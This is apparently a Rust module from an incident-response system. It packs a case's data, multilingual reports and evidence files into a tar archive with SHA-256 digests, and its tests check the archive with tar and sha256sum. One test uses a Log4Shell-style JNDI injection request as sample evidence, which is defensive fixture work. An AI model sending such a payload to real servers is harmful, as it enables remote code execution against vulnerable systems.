//! Everything of a case in one file for a regulator or a court: a tar archive (POSIX ustar) with a list of digests.

use journal::{Committed, Work};
use kernel::{Language, Text, to_hex};
use people::{Grant, HandleIncident};
use seal::{Keyring, sha256};
use serde_json::{Value, json};

use crate::command_case::{commanded, note};
use crate::opened_case::Happened;
use crate::{CaseError, OpenedCase, fill_form, report_forms};

const BLOCK: usize = 512;

/// A file in the pack.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Member {
    name: String,
    bytes: Vec<u8>,
}

/// Notes that a pack of these bytes leaves the system. Only the commander hands one out.
pub fn note_pack(
    work: &mut Work<'_, '_>,
    grant: &Grant<HandleIncident>,
    (incident, digest): (kernel::Id<kernel::kinds::Incident>, [u8; 32]),
) -> Result<(), CaseError> {
    commanded(work.tx(), grant, incident)?;
    note(work, grant, "response.pack_made", incident, |event| event.detail("digest", to_hex(&digest)))
}

/// Makes the pack: the case as JSON, every report in three languages, the files of evidence, and the SHA-256 of each.
/// `department` is the name of the one that leads.
pub fn make_pack(case: &OpenedCase, department: &Text, committed: &Committed, keys: &Keyring) -> Result<Vec<u8>, CaseError> {
    let mut members = vec![Member { name: "case.json".into(), bytes: format!("{:#}\n", facts(case)).into_bytes() }];
    for form in report_forms() {
        for language in Language::ALL {
            let text = fill_form(form, case, department.get(language), language).text(language);
            members.push(Member { name: format!("reports/{}.{}.txt", form.slug, language.slug()), bytes: text.into_bytes() });
        }
    }
    for entry in &case.file.entries {
        if let Some(bytes) = entry.sealed.open_file(committed, keys).or_else(gone)? {
            members.push(Member { name: format!("evidence/{:04}.bin", entry.number), bytes });
        }
    }
    let list: Vec<String> = members.iter().map(|member| format!("{}  {}", to_hex(&sha256(&[&member.bytes])), member.name)).collect();
    members.push(Member { name: "SHA256SUMS".into(), bytes: (list.join("\n") + "\n").into_bytes() });
    let at = committed.at().millis() / 1000;
    let folder = if case.file.incident.is_exercise { "EXERCISE-" } else { "" }.to_owned() + &case.file.incident.id.to_string();
    Ok(tar(&folder, &members, at))
}

fn gone(error: seal::SealError) -> Result<Option<Vec<u8>>, seal::SealError> {
    if matches!(error, seal::SealError::Gone) { Ok(None) } else { Err(error) }
}

/// The case as data, moments in UTC as everything that programs read.
fn facts(case: &OpenedCase) -> Value {
    let file = &case.file;
    let utc = |at: kernel::Instant| at.millis();
    let moments = file.moments.iter().map(|one| json!({"milestone": one.milestone.slug(), "at_ms": utc(one.at), "noted_ms": utc(one.noted)}));
    let deadlines = file.deadlines.iter().map(|one| {
        json!({"clock": one.clock, "start_ms": utc(one.start), "due_ms": utc(one.due), "met_ms": one.met.map(utc),
               "excused": one.is_excused, "reckoned_ms": utc(one.noted), "replaced_ms": one.superseded.map(utc)})
    });
    let entries = file.entries.iter().map(|entry| {
        json!({"number": entry.number, "kind": entry.kind.slug(), "room": entry.room.slug(), "happened_ms": utc(entry.happened),
               "written_ms": utc(entry.noted), "by": entry.officer.to_string(), "department": entry.department.to_string(),
               "about": entry.about, "due": entry.due, "done_ms": entry.settled.map(utc),
               "sha256": entry.digest.map(|digest| to_hex(&digest)), "text": case.text(entry.number)})
    });
    let timeline = case.timeline().into_iter().map(|(at, what)| match what {
        Happened::Entry(entry, _) => json!({"at_ms": utc(at), "entry": entry.number}),
        Happened::Settled(entry, _) => json!({"at_ms": utc(at), "done": entry.number}),
    });
    json!({
        "incident": file.incident.id.to_string(),
        "exercise": file.incident.is_exercise,
        "kind": file.incident.kind.slug(),
        "summary": file.incident.summary,
        "opened_ms": utc(file.incident.opened),
        "closed_ms": file.incident.closed.map(utc),
        "facts": file.incident.facts,
        "moments": moments.collect::<Vec<_>>(),
        "deadlines": deadlines.collect::<Vec<_>>(),
        "entries": entries.collect::<Vec<_>>(),
        "timeline": timeline.collect::<Vec<_>>(),
    })
}

fn tar(folder: &str, members: &[Member], at_secs: i64) -> Vec<u8> {
    let mut out = Vec::new();
    for member in members {
        out.extend(header(&format!("{folder}/{}", member.name), member.bytes.len(), at_secs));
        out.extend(&member.bytes);
        out.resize(out.len().next_multiple_of(BLOCK), 0);
    }
    out.resize(out.len() + 2 * BLOCK, 0);
    out
}

/// The header of a member: POSIX.1-1988 ustar, numbers in octal.
fn header(name: &str, bytes: usize, at_secs: i64) -> Vec<u8> {
    let field = |text: &str, length: usize| {
        let mut field: Vec<u8> = text.bytes().take(length).collect();
        field.resize(length, 0);
        field
    };
    let head = |sum: &str| {
        [
            field(name, 100),
            field("0000600", 8),
            field("0000000", 8),
            field("0000000", 8),
            field(&format!("{bytes:011o}"), 12),
            field(&format!("{at_secs:011o}"), 12),
            field(sum, 8),
            field("0", 1),
            field("", 100),
            field("ustar", 6),
            field("00", 2),
            field("", 247),
        ]
        .concat()
    };
    let sum: u32 = head("        ").into_iter().map(u32::from).sum();
    head(&format!("{sum:06o}\0 "))
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;
    use crate::rehearsal::City;
    use crate::{EntryKind, Room};

    /// The machine's own `tar` and `sha256sum` are the judges.
    #[test]
    fn a_pack_opens_with_tar_and_its_digests_are_right() {
        let city = City::new();
        let grant = City::handler(1);
        let id = city.open_case(&grant, false);
        city.write(&grant, (id, EntryKind::Finding, Room::Technical), "old library");
        city.attach(&grant, (id, Room::Technical), b"GET /?q=${jndi:ldap://192.168.2.6} HTTP/1.1\n");
        let department = Text::new("Treasury", "庫務署", "库务署");
        let pack = city.packed(&grant, id, &department);
        let folder = tempfile::TempDir::new().unwrap();
        std::fs::write(folder.path().join("pack.tar"), &pack).unwrap();
        let run = |program: &str, arguments: &[&str], at: &std::path::Path| {
            let done = Command::new(program).args(arguments).current_dir(at).output().unwrap();
            assert!(done.status.success(), "{program}: {}", String::from_utf8_lossy(&done.stderr));
            String::from_utf8(done.stdout).unwrap()
        };
        run("tar", &["xf", "pack.tar"], folder.path());
        let inside = folder.path().join(id.to_string());
        let judged = run("sha256sum", &["-c", "SHA256SUMS"], &inside);
        assert_eq!(judged.lines().count(), 2 + 3 * report_forms().len(), "{judged}");
        assert!(std::fs::read(inside.join("evidence/0002.bin")).unwrap().starts_with(b"GET /?q"));
        let case: Value = serde_json::from_slice(&std::fs::read(inside.join("case.json")).unwrap()).unwrap();
        assert_eq!(case["entries"][0]["text"]["title"], "old library");
        assert_eq!(city.verbs().last().unwrap(), "response.pack_made");
    }

    #[test]
    fn only_the_commander_hands_a_pack_out() {
        let city = City::new();
        let (one, two) = (City::handler(1), City::handler_of(City::DEPARTMENT, 8));
        let id = city.open_case(&one, false);
        let refused = city.act(two.actor(), move |work| note_pack(work, &two, (id, [0; 32])));
        assert!(matches!(refused, Err(store::RunError::Refused(CaseError::Commander))));
    }
}
